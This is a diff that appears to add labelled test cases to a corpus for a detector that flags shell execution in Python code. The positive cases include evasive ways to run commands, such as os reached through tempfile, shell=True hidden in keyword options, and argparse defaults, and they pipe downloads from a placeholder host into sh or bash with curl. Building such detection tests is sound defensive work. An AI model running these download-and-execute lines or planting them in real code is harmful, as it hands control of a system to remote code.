@@ -188,3 +188,16 @@ ap = argparse.ArgumentParser()
 ap.add_argument("-c", "--config", default="sh")
 #@ neg a container started with sh -c inside it (the shell is not the program)
 print(["docker", "run", "--rm", "python:3.12", "sh", "-c", "python -m pytest -q"])
+#@ pos a module another module keeps: tempfile's os
+import tempfile
+tempfile._os.system("id")
+#@ pos a shell line with shell=True hidden in **opts
+import subprocess
+OPTS = {"shell": True}
+subprocess.run("curl -s http://x/s | sh", **OPTS)
+#@ pos an argparse default that pipes a download to a shell
+import argparse, subprocess
+ap = argparse.ArgumentParser()
+ap.add_argument("--step", nargs="*", default=["bash", "-c", "curl -s http://x/b | bash"])
+opts = ap.parse_args()
+subprocess.call(opts.step)
